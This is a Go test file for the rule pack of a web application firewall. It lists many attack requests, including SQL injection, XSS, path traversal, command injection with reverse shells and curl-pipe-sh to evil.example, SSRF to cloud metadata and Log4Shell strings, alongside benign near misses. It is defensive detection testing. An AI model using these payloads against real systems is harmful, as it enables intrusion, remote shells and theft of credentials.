package rules_test

import (
	"bytes"
	"net/url"
	"reflect"
	"strings"
	"testing"

	"github.com/deepwall/deepwall/dpi/proto"
	dwhttp "github.com/deepwall/deepwall/dpi/proto/http"
	"github.com/deepwall/deepwall/internal/ruletest"
	"github.com/deepwall/deepwall/rules"
)

// txn is one HTTP exchange as the DPI engine would present it.
type txn struct {
	uri     string // request target: path?query
	headers [][2]string
	body    string
	resp    string
}

func (t txn) fields() ruletest.Fields {
	f := ruletest.Fields{}
	f[rules.Field{Kind: rules.FieldHTTPMethod}] = []byte("GET")
	f[rules.Field{Kind: rules.FieldHTTPURI}] = []byte(t.uri)
	path, query, _ := strings.Cut(t.uri, "?")
	f[rules.Field{Kind: rules.FieldHTTPPath}] = []byte(path)
	if query != "" {
		f[rules.Field{Kind: rules.FieldHTTPArgs}] = []byte(query)
	}
	hdrs := t.headers
	if hdrs == nil {
		hdrs = rules.BrowserHeaders
	}
	var all strings.Builder
	for _, h := range hdrs {
		all.WriteString(h[0] + ": " + h[1] + "\r\n")
		f[rules.Field{Kind: rules.FieldHTTPHeader, Name: strings.ToLower(h[0])}] = []byte(h[1])
	}
	f[rules.Field{Kind: rules.FieldHTTPHeaders}] = []byte(all.String())
	if t.body != "" {
		f[rules.Field{Kind: rules.FieldHTTPBody}] = []byte(t.body)
		f[rules.Field{Kind: rules.FieldHTTPMethod}] = []byte("POST")
	}
	if t.resp != "" {
		f[rules.Field{Kind: rules.FieldHTTPResponseBody}] = []byte(t.resp)
	}
	return f
}

// values gives every field of the exchange as the DPI engine splits it:
// the classic whole fields of fields(), plus each argument (query and
// body, through the engine's own parsers), argument name, cookie, cookie
// name, header value and name, and uploaded file name.
func (t txn) values() ruletest.Values {
	v := ruletest.Values{}
	for f, b := range t.fields() {
		v[f] = []ruletest.Value{{Data: b}}
	}
	add := func(k rules.FieldKind, name, data []byte) {
		f := rules.Field{Kind: k}
		v[f] = append(v[f], ruletest.Value{Name: bytes.Clone(name), Data: bytes.Clone(data)})
	}
	sink := &packArgs{add: add}
	if _, query, ok := strings.Cut(t.uri, "?"); ok {
		var found proto.KindSet
		_, args := dwhttp.DecodeArgs(nil, nil, []byte(query), 256, &found)
		for _, a := range args {
			sink.Arg(a.Name, a.Value)
		}
	}
	if t.body != "" {
		ct := "application/x-www-form-urlencoded"
		switch {
		case strings.HasPrefix(t.body, "{") || strings.HasPrefix(t.body, "["):
			ct = "application/json"
		case strings.HasPrefix(t.body, "--"):
			b, _, _ := strings.Cut(t.body[2:], "\r\n")
			ct = "multipart/form-data; boundary=" + b
		}
		k, boundary := dwhttp.BodyKindOf([]byte(ct))
		var found proto.KindSet
		dwhttp.ParseBody(k, boundary, []byte(t.body), nil, 1024, sink, &found)
	}
	hdrs := t.headers
	if hdrs == nil {
		hdrs = rules.BrowserHeaders
	}
	for _, h := range hdrs {
		add(rules.FieldHTTPHeaderValue, []byte(strings.ToLower(h[0])), []byte(h[1]))
		add(rules.FieldHTTPHeaderName, nil, []byte(h[0]))
		if !strings.EqualFold(h[0], "cookie") {
			continue
		}
		for _, c := range strings.Split(h[1], ";") {
			if c = strings.TrimSpace(c); c == "" {
				continue
			}
			name, val, _ := strings.Cut(c, "=")
			add(rules.FieldHTTPCookie, []byte(name), []byte(val))
			add(rules.FieldHTTPCookieName, nil, []byte(name))
		}
	}
	return v
}

// packArgs collects what the engine's body parser reports.
type packArgs struct {
	add func(k rules.FieldKind, name, data []byte)
}

func (a *packArgs) Arg(name, value []byte) {
	a.add(rules.FieldHTTPArg, name, value)
	a.add(rules.FieldHTTPArgName, nil, name)
}

func (a *packArgs) File(field, filename []byte) { a.add(rules.FieldHTTPFile, field, filename) }

func (a *packArgs) PartHeader(line []byte) { a.add(rules.FieldHTTPPartHeader, nil, line) }

func withHeader(name, value string) [][2]string {
	h := append([][2]string{}, rules.BrowserHeaders...)
	for i := range h {
		if strings.EqualFold(h[i][0], name) {
			h[i][1] = value
			return h
		}
	}
	return append(h, [2]string{name, value})
}

func q(s string) string { return url.QueryEscape(s) }

// packAttacks must each hit at least one enabled rule of the category.
var packAttacks = []struct {
	name, category string
	t              txn
}{
	// SQL injection
	{"sqli tautology quoted", "sqli", txn{uri: "/item?id=1%27%20OR%20%271%27%3D%271"}},
	{"sqli tautology numeric", "sqli", txn{uri: "/item?id=1+or+1%3D1"}},
	{"sqli tautology and 5=5 comment", "sqli", txn{uri: "/item?id=5+AND+5%3D5--"}},
	{"sqli union select", "sqli", txn{uri: "/item?id=1+UNION+SELECT+username,password+FROM+users--"}},
	{"sqli union all select comments", "sqli", txn{uri: "/item?id=-1/**/UNION/**/ALL/**/SELECT/**/1,2,3"}},
	{"sqli union mysql exec comment", "sqli", txn{uri: "/item?id=-1+UNION/*!50000SELECT*/1,2"}},
	{"sqli double encoded", "sqli", txn{uri: "/item?id=1%2527%2520union%2520select%2520null--"}},
	{"sqli sleep", "sqli", txn{uri: "/item?id=1+AND+SLEEP(5)"}},
	{"sqli benchmark", "sqli", txn{uri: "/item?id=1+and+benchmark(5000000,md5(1))"}},
	{"sqli waitfor", "sqli", txn{uri: "/item?id=1;WAITFOR+DELAY+'0:0:5'--"}},
	{"sqli stacked drop", "sqli", txn{uri: "/item?id=1;DROP+TABLE+users--"}},
	{"sqli admin comment", "sqli", txn{uri: "/login?user=admin%27--&pass=x"}},
	{"sqli error based", "sqli", txn{uri: "/item?q=1%27+AND+extractvalue(1,concat(0x7e,version()))--+-"}},
	{"sqli information_schema", "sqli", txn{uri: "/item?id=1+union+select+table_name+from+information_schema.tables"}},
	{"sqli into outfile", "sqli", txn{uri: "/item?id=1+into+outfile+'/var/www/x.php'"}},
	{"sqli json body", "sqli", txn{uri: "/api/login", body: `{"user":"admin' OR 1=1-- -","password":"x"}`}},
	{"sqli json unicode escaped", "sqli", txn{uri: "/api/items", body: `{"id":"1\u0027 union select password from users--"}`}},
	{"sqli form body", "sqli", txn{uri: "/login", body: "user=admin%27+or+%271%27%3D%271&pass=x"}},
	{"sqli cookie", "sqli", txn{uri: "/", headers: withHeader("Cookie", "lang=en; id=1' or '1'='1")}},
	{"sqli char()", "sqli", txn{uri: "/item?id=1+and+char(65,66,67)=char(65,66,67)"}},
	{"sqli login bypass in password", "sqli", txn{uri: "/login", body: "user=admin&password=%27+or+%27x%27%3D%27x"}},
	{"sqli json password", "sqli", txn{uri: "/api/login", body: `{"user":"admin","password":"' or 1=1 or '"}`}},
	{"sqli hex encoded union", "sqli", txn{uri: "/item?id=-1%20%55%4e%49%4f%4e%20%53%45%4c%45%43%54%201,2"}},
	{"sqli stacked shutdown", "sqli", txn{uri: "/item?id=1;shutdown--"}},
	{"sqli pg_sleep", "sqli", txn{uri: "/item?id=1)%3Bselect+pg_sleep(10)--"}},
	// XSS
	{"xss script", "xss", txn{uri: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"}},
	{"xss script double encoded", "xss", txn{uri: "/search?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"}},
	{"xss img onerror", "xss", txn{uri: "/search?q=" + q(`<img src=x onerror=alert(1)>`)}},
	{"xss svg onload", "xss", txn{uri: "/search?q=" + q(`<svg/onload=alert(document.domain)>`)}},
	{"xss attribute break", "xss", txn{uri: "/search?q=" + q(`" onmouseover="alert(1)`)}},
	{"xss javascript uri", "xss", txn{uri: "/redirect?url=javascript:alert(1)"}},
	{"xss javascript tab", "xss", txn{uri: "/redirect?url=java%09script:alert(1)"}},
	{"xss javascript entities", "xss", txn{uri: "/redirect?url=" + q("&#106;&#97;vascript&colon;alert(1)")}},
	{"xss data uri", "xss", txn{uri: "/redirect?url=" + q("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")}},
	{"xss iframe", "xss", txn{uri: "/search?q=" + q(`<iframe src="//evil.example/x">`)}},
	{"xss body comment", "xss", txn{uri: "/comment", body: "name=bob&text=" + q(`nice post <script src=//evil.example/x.js></script>`)}},
	{"xss body json", "xss", txn{uri: "/api/comment", body: `{"text":"<img src=x onerror=\"fetch('//e.example/'+document.cookie)\">"}`}},
	{"xss alert backtick", "xss", txn{uri: "/search?q=" + q("';alert`1`//")}},
	{"xss body onload", "xss", txn{uri: "/search?q=" + q(`<body onload=alert(1)>`)}},
	{"xss details ontoggle", "xss", txn{uri: "/search?q=" + q(`<details open ontoggle=alert(1)>`)}},
	{"xss js string break", "xss", txn{uri: "/search?q=" + q(`';document.location='//evil.example/?c='+document.cookie;//`)}},
	{"xss unicode escaped", "xss", txn{uri: "/search?q=" + q(`\u003cscript\u003ealert(1)\u003c/script\u003e`)}},
	// Path traversal and file access
	{"lfi param", "lfi", txn{uri: "/download?file=../../../../etc/passwd"}},
	{"lfi encoded", "lfi", txn{uri: "/download?file=..%2f..%2f..%2fetc%2fpasswd"}},
	{"lfi dot encoded", "lfi", txn{uri: "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow"}},
	{"lfi double encoded", "lfi", txn{uri: "/download?file=..%252f..%252f..%252fetc%252fpasswd"}},
	{"lfi windows", "lfi", txn{uri: "/download?file=..\\..\\..\\windows\\win.ini"}},
	{"lfi overlong utf8", "lfi", txn{uri: "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"}},
	{"lfi iis unicode", "lfi", txn{uri: "/download?file=%uff0e%uff0e%u2215etc%u2215passwd"}},
	{"lfi path", "lfi", txn{uri: "/static/..%2f..%2f..%2fetc/passwd"}},
	{"lfi proc environ", "lfi", txn{uri: "/view?page=/proc/self/environ"}},
	{"lfi git", "lfi", txn{uri: "/.git/config"}},
	{"lfi env", "lfi", txn{uri: "/.env"}},
	{"lfi env encoded", "lfi", txn{uri: "/%2e%65nv"}},
	{"lfi body", "lfi", txn{uri: "/api/render", body: `{"template":"../../../../etc/passwd"}`}},
	{"lfi file scheme body", "lfi", txn{uri: "/api/fetch", body: `{"src":"file:///etc/passwd"}`}},
	// Command injection
	{"rce semicolon cat", "rce", txn{uri: "/ping?host=127.0.0.1;cat+/etc/passwd"}},
	{"rce pipe id", "rce", txn{uri: "/ping?host=127.0.0.1|id"}},
	{"rce whoami", "rce", txn{uri: "/ping?host=127.0.0.1%3Bwhoami"}},
	{"rce backticks", "rce", txn{uri: "/ping?host=%60id%60"}},
	{"rce subshell curl", "rce", txn{uri: "/ping?host=" + q("$(curl http://evil.example/x.sh|sh)")}},
	{"rce and wget", "rce", txn{uri: "/ping?host=" + q("1.1.1.1&&wget http://evil.example/x -O /tmp/x")}},
	{"rce quote obfuscated", "rce", txn{uri: "/ping?host=" + q(`x;c'a't /e't'c/pa''ss""wd`)}},
	{"rce backslash obfuscated", "rce", txn{uri: "/ping?host=" + q(`x;w\h\o\a\m\i`)}},
	{"rce brace expansion", "rce", txn{uri: "/ping?host=" + q(";{cat,/etc/passwd}")}},
	{"rce ifs", "rce", txn{uri: "/ping?host=" + q(";cat${IFS}/etc/passwd")}},
	{"rce reverse shell", "rce", txn{uri: "/ping?host=" + q("bash -i >& /dev/tcp/198.18.0.9/4444 0>&1")}},
	{"rce netcat", "rce", txn{uri: "/ping?host=" + q("x; nc -e /bin/sh 198.18.0.9 4444")}},
	{"rce powershell", "rce", txn{uri: "/run?c=" + q("powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=")}},
	{"rce cmd.exe", "rce", txn{uri: "/run?c=" + q("x & cmd.exe /c dir")}},
	{"rce shellshock", "rce", txn{uri: "/cgi-bin/status", headers: withHeader("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")}},
	{"rce body", "rce", txn{uri: "/api/ping", body: `{"host":"127.0.0.1; curl http://evil.example/x | sh"}`}},
	// SSRF
	{"ssrf aws metadata", "ssrf", txn{uri: "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"}},
	{"ssrf aws metadata encoded", "ssrf", txn{uri: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"}},
	{"ssrf gcp", "ssrf", txn{uri: "/fetch?url=http://metadata.google.internal/computeMetadata/v1/"}},
	{"ssrf aws ipv6", "ssrf", txn{uri: "/fetch?url=" + q("http://[fd00:ec2::254]/latest/meta-data/")}},
	{"ssrf decimal", "ssrf", txn{uri: "/fetch?url=http://2852039166/latest/"}},
	{"ssrf hex", "ssrf", txn{uri: "/fetch?url=http://0xa9fea9fe/latest/"}},
	{"ssrf mapped v6", "ssrf", txn{uri: "/fetch?url=" + q("http://[::ffff:a9fe:a9fe]/latest/")}},
	{"ssrf alibaba", "ssrf", txn{uri: "/fetch?url=http://100.100.100.200/latest/meta-data/"}},
	{"ssrf ecs task", "ssrf", txn{uri: "/fetch?url=http://169.254.170.2/v2/credentials/abc"}},
	{"ssrf gopher", "ssrf", txn{uri: "/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL"}},
	{"ssrf file", "ssrf", txn{uri: "/fetch?url=file:///etc/passwd"}},
	{"ssrf body", "ssrf", txn{uri: "/api/webhook", body: `{"callback":"http://169.254.169.254/latest/user-data"}`}},
	{"ssrf host header", "ssrf", txn{uri: "/latest/meta-data/", headers: withHeader("Host", "169.254.169.254")}},
	// Java
	{"java gadget base64 without a stream header", "java", txn{uri: "/api/import", body: "blob=AAFjYy5mdW5jdG9ycy5JbnZva2VyVHJhbnNmb3JtZXIAeA%3D%3D"}},
	{"log4shell ua", "java", txn{uri: "/", headers: withHeader("User-Agent", "${jndi:ldap://evil.example/a}")}},
	{"log4shell lower", "java", txn{uri: "/", headers: withHeader("X-Api-Version", "${${lower:j}ndi:ldap://evil.example/a}")}},
	{"log4shell default values", "java", txn{uri: "/", headers: withHeader("Referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}")}},
	{"log4shell k8s", "java", txn{uri: "/", headers: withHeader("X-Forwarded-For", "${j${k8s:k5:-ND}i:ldap://evil.example/a}")}},
	{"log4shell env", "java", txn{uri: "/", headers: withHeader("User-Agent", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}")}},
	{"log4shell mixed case", "java", txn{uri: "/", headers: withHeader("User-Agent", "${jNdI:LdAp://evil.example/a}")}},
	{"log4shell query", "java", txn{uri: "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"}},
	{"log4shell body unicode", "java", txn{uri: "/api/log", body: `{"msg":"\u0024\u007bjndi:ldap://evil.example/a}"}`}},
	{"log4shell html entities", "java", txn{uri: "/?x=" + q("&dollar;&lbrace;jndi:ldap://evil.example/a&rbrace;")}},
	{"spring4shell", "java", txn{uri: "/", body: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"}},
	{"java deserialization", "java", txn{uri: "/api/obj", body: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"}},
	{"java runtime exec", "java", txn{uri: "/eval?expr=" + q("T(java.lang.Runtime).getRuntime().exec('id')")}},
	{"struts ognl", "java", txn{uri: "/upload.action", headers: withHeader("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}")}},
	// Attacks in the per-value fields: cookies, header values and names,
	// argument names, JSON and multipart values, uploaded file names.
	{"lfi cookie", "lfi", txn{uri: "/", headers: withHeader("Cookie", "lang=en; tpl=..%2f..%2f..%2fetc%2fpasswd")}},
	{"lfi header value", "lfi", txn{uri: "/", headers: withHeader("X-Include", "/proc/self/environ")}},
	{"lfi upload filename", "lfi", txn{uri: "/upload", body: "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../var/www/x.txt\"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b1--\r\n"}},
	{"lfi agent config", "lfi", txn{uri: "/.claude/settings.json"}},
	{"lfi argument name", "lfi", txn{uri: "/get?%2Fetc%2Fshadow=1"}},
	{"rfi ip url", "rfi", txn{uri: "/view?src=http://198.18.0.9/shell.php"}},
	{"rce windows for", "rce", txn{uri: "/run?x=" + q(`FOR /F "tokens=1" %%G IN ('dir') DO echo %%G`)}},
	{"rce header", "rce", txn{uri: "/", headers: withHeader("X-Cmd", "; ls -la /")}},
	{"rce json pipe netcat", "rce", txn{uri: "/api/ping", body: `{"host":"x | nc -e /bin/sh 198.18.0.9 4444"}`}},
	{"rce glob", "rce", txn{uri: "/get?id=cat+/et*/*wd"}},
	{"rce bin path", "rce", txn{uri: "/get?shell=/usr/bin/python3"}},
	{"rce node child_process", "rce", txn{uri: "/eval?x=" + q("require('child_process').exec('id')")}},
	{"rce template injection", "rce", txn{uri: "/hello?name=" + q("{{7*7}}")}},
	{"rce python", "rce", txn{uri: "/eval?x=" + q("__import__('os').system('id')")}},
	{"php tag", "php", txn{uri: "/get?x=" + q("<?php system($_GET['c']); ?>")}},
	{"php function in form", "php", txn{uri: "/save", body: "x=" + q("file_put_contents('a.php', base64_decode($c))")}},
	{"php object in cookie", "php", txn{uri: "/", headers: withHeader("Cookie", `prefs=O:8:"stdClass":1:{s:1:"a";i:1;}`)}},
	{"php wrapper", "php", txn{uri: "/index.php?page=php://filter/convert.base64-encode/resource=index.php"}},
	{"php variable function", "php", txn{uri: "/get?x=" + q("(sy.(st).em)('uname');")}},
	{"php upload", "php", txn{uri: "/upload", body: "--b2\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.phtml\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b2--\r\n"}},
	{"java class in cookie name", "java", txn{uri: "/", headers: withHeader("Cookie", "java.lang.Runtime=x")}},
	{"java gadget json name", "java", txn{uri: "/api/obj", body: `{"org.apache.commons.collections.functors.InvokerTransformer":"x"}`}},
	{"java gadget base64 header", "java", txn{uri: "/", headers: withHeader("X-Data", "UHJvY2Vzc0J1aWxkZXI=")}},
	{"java el expression", "java", txn{uri: "/get?x=" + q("${T(java.lang.Runtime).getRuntime().exec('id')}")}},
	{"xss cookie", "xss", txn{uri: "/", headers: withHeader("Cookie", "lang=en; name=%3Cscript%3Ealert(1)%3C%2Fscript%3E")}},
	{"xss referer", "xss", txn{uri: "/", headers: withHeader("Referer", "https://x.example/<svg/onload=alert(1)>")}},
	{"xss argument name", "xss", txn{uri: "/get?%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1"}},
	{"sqli header", "sqli", txn{uri: "/", headers: withHeader("X-Forwarded-For", "1' union select password from users--")}},
	{"sqli function json", "sqli", txn{uri: "/api/items", body: `{"id":"1 and ascii(substring(version(),1,1))>52"}`}},
	{"sqli user agent", "sqli", txn{uri: "/", headers: withHeader("User-Agent", "x' or 1=1-- -")}},
	{"session fixation", "session", txn{uri: "/login?jsessionid=0123456789abcdef"}},
	// Classes added so the pack catches the attacks of the Core Rule Set's
	// regression tests at paranoia levels 1-2: each attack below has a
	// near miss in packBenign.
	{"rce windows if compare", "rce", txn{uri: "/run?x=" + q(`IF %ERRORLEVEL% NEQ 0 echo test`)}},
	{"rce windows if quoted", "rce", txn{uri: "/run?x=" + q(`if "%1"=="" goto ERROR`)}},
	{"rce powershell cmdlet", "rce", txn{uri: "/run", body: "c=" + q("Invoke-WebRequest http://evil.example/x.ps1")}},
	{"rce powershell alias", "rce", txn{uri: "/run?cmd=" + q(";iex (iwr http://198.18.0.9/x.ps1)")}},
	{"rce command at value start", "rce", txn{uri: "/run", body: "code=" + q("time ifconfig")}},
	{"rce version probe after ;", "rce", txn{uri: "/run", body: "args=" + q(";env --version")}},
	{"rce ansible", "rce", txn{uri: "/run", body: "code=" + q("ansible-playbook site.yml")}},
	{"rce command in user agent", "rce", txn{uri: "/", headers: withHeader("User-Agent", "time ifconfig")}},
	{"rce sh -c", "rce", txn{uri: "/run?x=" + q(`bash -c "echo test"`)}},
	{"rce brace expansion", "rce", txn{uri: "/run?x=" + q("{,ifconfig}")}},
	{"rce brace in word", "rce", txn{uri: "/run?x=" + q("c{a,oun}t /etc/hosts")}},
	{"rce glob bracket", "rce", txn{uri: "/run?x=" + q("/etc/pa[s]swd")}},
	{"rce shellshock value", "rce", txn{uri: "/cgi-bin/x?a=" + q("() {")}},
	{"rce fork bomb", "rce", txn{uri: "/run", body: "cmd=" + q(":(){ :|:& };:")}},
	{"rce alias", "rce", txn{uri: "/run", body: "rce=" + q("alias ls='rm -rf /'")}},
	{"rce smtp injection", "rce", txn{uri: "/contact?to=" + q("x\r\nMAIL FROM:<a@evil.example>")}},
	{"rce imap injection", "rce", txn{uri: "/mail?box=" + q("x\r\na001 EXAMINE INBOX")}},
	{"rce dev tcp cookie", "rce", txn{uri: "/", headers: withHeader("Cookie", "lang=en; x=exec 5<>/dev/tcp/198.18.0.9/80")}},
	{"rce download in referer", "rce", txn{uri: "/", headers: withHeader("Referer", "http://x.example/a.php;wget http://evil.example/a.jpg")}},
	{"rce compiler wrapper", "rce", txn{uri: "/run", body: "code=" + q(";c89 -wrapper sh,-c,id .")}},
	{"rce dollar evasion", "rce", txn{uri: "/run?host=" + q("x;c$!at /et$!c/pas$!swd")}},
	{"rce backtick split", "rce", txn{uri: "/run?x=" + q("pi``ng 198.18.0.9")}},
	{"rce variables chained", "rce", txn{uri: "/run", body: "cmd=" + q("a=/etc&&b=/passwd&&c=cat&&$c $a$b")}},
	{"rce node dos loop", "rce", txn{uri: "/eval?x=" + q("while(Infinity);")}},
	{"rce node-serialize", "rce", txn{uri: "/", headers: withHeader("Cookie", "lang=en; p=_$$ND_FUNC$$_function(){}()")}},
	{"rce react server gadget", "rce", txn{uri: "/rsc", body: `{"_formData":{"get":"$3:constructor:constructor"}}`}},
	{"php bbcode tag", "php", txn{uri: "/get?code=" + q("[php]echo 'test';[/php]")}},
	{"php ini directive", "php", txn{uri: "/get", body: "v=" + q("allow_url_include=1")}},
	{"php variable variable", "php", txn{uri: "/get?foo=" + q("${'ff'}")}},
	{"php prefixed function", "php", txn{uri: "/get?foo=FOOcall_user_func()"}},
	{"php string call", "php", txn{uri: "/get", body: "cmd=" + q(`("system")("whoami")`)}},
	{"php variable function", "php", txn{uri: "/get", body: "x=" + q(`@$b374k("foo")`)}},
	{"php commented call", "php", txn{uri: "/get?x=" + q("(/* c */system)(ls);")}},
	{"php upload spaced extension", "php", txn{uri: "/upload", headers: withHeader("X-Filename", "photo. php")}},
	{"php call in path", "php", txn{uri: "/get/eval(base64_decode('cGFw')"}},
	{"ssrf localhost name", "ssrf", txn{uri: "/fetch?url=localhost/"}},
	{"ssrf docker host", "ssrf", txn{uri: "/fetch", headers: withHeader("Cookie", "lang=en; redirect=host.docker.internal/")}},
	{"ssrf decimal host", "ssrf", txn{uri: "/fetch?url=http://7147006462/"}},
	{"ssrf no slashes", "ssrf", txn{uri: "/fetch?url=http:127.0.0.1"}},
	{"ssrf circled digits", "ssrf", txn{uri: "/fetch?url=" + q("http://①②⑦.⓪.⓪.①/")}},
	{"xss vml frame", "xss", txn{uri: "/post", body: "a=" + q(`<v:vmlframe src="x.example/a.fml"/>`)}},
	{"xss window location", "xss", txn{uri: "/post", body: "a=" + q("window.location='//evil.example'")}},
	{"xss window bracket", "xss", txn{uri: "/post", body: "a=" + q(`window["alert"](window["document"]["cookie"])`)}},
	{"xss tagged template", "xss", txn{uri: "/get?xss=" + q("[].sort.call`${alert}1337`")}},
	{"xss jsfuck", "xss", txn{uri: "/post", body: "a=" + q("(![]+[])[+!![]]")}},
	{"xss utf-7", "xss", txn{uri: "/get?id=%2bADw-script%2bAD4-"}},
	{"xss long event attribute", "xss", txn{uri: "/get?body=" + q(`<"onwebkitplaybacktargetavailabilitychanged=`)}},
	{"xss in path", "xss", txn{uri: "/index.php/%3Csvg/onload=alert(1)%3E"}},
	{"sqli mongo operator name", "sqli", txn{uri: "/show.php?u_id[$ne]=2"}},
	{"sqli mongo json key", "sqli", txn{uri: "/api/users", body: `{"$where":"sleep(100)"}`}},
	{"sqli alias from", "sqli", txn{uri: "/post", body: "q=" + q(") AS orders FROM")}},
	{"sqli alter table", "sqli", txn{uri: "/post", body: "q=" + q("ALTER TABLE users ADD admin INT")}},
	{"sqli mssql procedure", "sqli", txn{uri: "/post", body: "pay=xp_dirtree"}},
	{"sqli double overflow", "sqli", txn{uri: "/get?i=2.2250738585072011e-308"}},
	{"sqli quote operator comment", "sqli", txn{uri: "/post", body: "var=" + q("x'|email--")}},
	{"sqli email quote", "sqli", txn{uri: "/post", body: "email=" + q("admin@juice-sh.op';")}},
	{"sqli scientific notation", "sqli", txn{uri: "/post", body: "foo=1.e(ascii)"}},
	{"sqli case when", "sqli", txn{uri: "/post", body: "var=" + q(") when 234 then")}},
	{"sqli json operator in path", "sqli", txn{uri: "/get/OR%20'%7B%22b%22:2%7D'::jsonb%20%3C@%20'%7B%22a%22:1%7D'::jsonb"}},
	{"sqli time in path", "sqli", txn{uri: "/get/if(now()=sysdate(),sleep(12),0)"}},
	{"sqli libinjection path", "sqli", txn{uri: "/post/foo/24'union+all+select+1,2,3+from+aa"}},
	{"session id parameter", "session", txn{uri: "/login?play_session=eyJhbGciOiJIUzI1NiJ9"}},
	{"session cookie expiry", "session", txn{uri: "/get/foo.php?test=.cookie;expires="}},
	{"java commons", "java", txn{uri: "/post", body: "test=org.apache.commons"}},
	{"java serialized base64 value", "java", txn{uri: "/post", body: "test=rO0ABQ"}},
	{"java serialized shifted base64 cookie", "java", txn{uri: "/", headers: withHeader("Cookie", "lang=en; test=Cs7QAF")}},
	{"java jsp upload spaced", "java", txn{uri: "/upload", headers: withHeader("X-Filename", "shell. jsp")}},
	{"java spring context", "java", txn{uri: "/console", body: "handle=" + q("com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://198.18.0.9/wb.xml')")}},
	{"lfi proc sys in user agent", "lfi", txn{uri: "/", headers: withHeader("User-Agent", "cat /proc/sys/kernel/randomize_va_space")}},
	// Scanners and protocol
	{"scanner sqlmap", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")}},
	{"scanner nikto", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")}},
	{"scanner nuclei", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")}},
	{"crlf injection", "protocol", txn{uri: "/redirect?next=%0d%0aSet-Cookie:%20admin=1"}},
	{"null byte", "protocol", txn{uri: "/download/report.php%00.pdf"}},
	// DLP
	{"dlp visa", "dlp", txn{uri: "/api/me", resp: `{"name":"Jane","card":"4111 1111 1111 1111","exp":"12/29"}`}},
	{"dlp mastercard dashes", "dlp", txn{uri: "/api/me", resp: "card: 5500-0000-0000-0004\n"}},
	{"dlp amex", "dlp", txn{uri: "/api/me", resp: "amex=378282246310005;"}},
	{"dlp ssn", "dlp", txn{uri: "/api/me", resp: `{"ssn":"536-22-8726"}`}},
	{"dlp aws key", "dlp", txn{uri: "/debug", resp: "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"}},
	{"dlp aws secret", "dlp", txn{uri: "/debug", resp: "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"}},
	{"dlp private key", "dlp", txn{uri: "/backup", resp: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"}},
	{"dlp github token", "dlp", txn{uri: "/debug", resp: "token: ghp_" + strings.Repeat("aB3", 12) + "\n"}},
	{"dlp jwt in url", "dlp", txn{uri: "/ws?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}},
	{"dlp key sent by client", "dlp", txn{uri: "/upload", body: "-----BEGIN RSA PRIVATE KEY-----\nMIIEow...\n"}},
	{"dlp iban", "dlp", txn{uri: "/api/me", resp: `{"iban":"DE89 3704 0044 0532 0130 00"}`}},
}

// packBenign must not hit any enabled rule.
var packBenign = []struct {
	name string
	t    txn
}{
	{"home page", txn{uri: "/"}},
	{"static asset", txn{uri: "/static/js/app.3f9a2b1c.chunk.js?v=1700000000"}},
	{"rest listing", txn{uri: "/api/v1/users/123/orders?status=open&sort=-created_at&page=2&per_page=50&fields=id,total,items(sku,qty)"}},
	{"search non-ascii", txn{uri: "/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e&lang=fr"}},
	{"search cyrillic", txn{uri: "/search?q=" + q("Привет, мир! Как дела?") + "&lang=ru"}},
	{"search chinese emoji", txn{uri: "/search?q=" + q("北京 烤鸭 🦆 最好的餐厅")}},
	{"search punctuation", txn{uri: "/search?q=" + q(`Tom & Jerry; "the movie" (1992) - 50% off! #1 <3`)}},
	{"search english sql-ish words", txn{uri: "/search?q=" + q("select the best union jobs from our list and update your settings, or drop us a line")}},
	{"search shell-ish words", txn{uri: "/search?q=" + q("cat food & dog food; find more | echo dot")}},
	{"search apostrophes", txn{uri: "/search?q=" + q("O'Reilly's book: don't panic -- it's fine #2")}},
	{"oauth callback", txn{uri: "/oauth/callback?code=4%2F0AfJohXn-abc_DEF123&state=xyz%3D%3D&scope=openid+email+profile"}},
	{"redirect https", txn{uri: "/login?next=%2Faccount%2Fsettings%3Ftab%3Dsecurity&redirect=https%3A%2F%2Fshop.example.com%2Fcart"}},
	{"tracking params", txn{uri: "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&gclid=Cj0KCQjw-r-vBhC-ARIsAGgUO2Dx&fbclid=IwAR2xYz"}},
